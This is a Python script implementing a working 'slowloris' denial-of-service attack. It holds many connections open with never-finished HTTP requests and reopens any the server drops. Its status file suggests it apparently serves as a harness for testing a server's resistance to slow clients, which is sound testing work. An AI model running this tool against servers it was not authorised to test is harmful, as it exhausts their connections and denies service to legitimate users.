#!/usr/bin/env python3
"""Slow REST clients (a "slowloris"): N connections from SRC_ADDR to HOST:PORT, each
sending an unfinished request head, one more header line every TRICKLE seconds, so it
never completes and never idles. A connection the server closes is opened again after
a short pause. Until SIGTERM; every second it rewrites STATUS_FILE with
"open=N max_open=N closed=N errors=N" (closed: by the server).

usage: slow_clients.py HOST PORT SRC_ADDR N STATUS_FILE [TRICKLE]"""

import errno
import os
import resource
import selectors
import signal
import socket
import sys
import time

REOPEN_PAUSE = 1.0  # after the server closed one: a flood, not a busy loop


def main() -> int:
    host, port, src, n, status = (sys.argv[1], int(sys.argv[2]), sys.argv[3],
                                  int(sys.argv[4]), sys.argv[5])
    trickle = float(sys.argv[6]) if len(sys.argv) > 6 else 5.0
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < n + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 64), hard))
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    sel = selectors.DefaultSelector()
    conns = {}  # socket -> next trickle time
    waiting = []  # times at which a closed slot may open again
    max_open = closed = errors = 0
    next_status = 0.0

    def open_one() -> None:
        nonlocal errors
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((src, 0))
            s.setblocking(False)
            try:
                s.connect((host, port))
            except BlockingIOError:
                pass
            # An unfinished head: the request line and one header, no blank line.
            s.send(b"GET /v1/health HTTP/1.1\r\nHost: x\r\n")
        except OSError as e:
            if e.errno not in (errno.EAGAIN, errno.EINPROGRESS):
                errors += 1
                s.close()
                waiting.append(time.monotonic() + REOPEN_PAUSE)
                return
        conns[s] = time.monotonic() + trickle
        sel.register(s, selectors.EVENT_READ)

    for _ in range(n):
        open_one()
    while not stop:
        now = time.monotonic()
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:  # closed by the server (or reset)
                sel.unregister(s)
                s.close()
                del conns[s]
                closed += 1
                waiting.append(now + REOPEN_PAUSE)
        for s, due in list(conns.items()):
            if now >= due:
                try:
                    s.send(b"X-Slow: 1\r\n")
                except OSError:
                    pass
                conns[s] = now + trickle
        ready = [t for t in waiting if t <= now]
        waiting[:] = [t for t in waiting if t > now]
        for _ in ready:
            open_one()
        max_open = max(max_open, len(conns))
        if now >= next_status:
            tmp = status + ".tmp"
            with open(tmp, "w") as f:
                f.write("open=%d max_open=%d closed=%d errors=%d\n" %
                        (len(conns), max_open, closed, errors))
            os.replace(tmp, status)
            next_status = now + 1.0
    for s in conns:
        s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
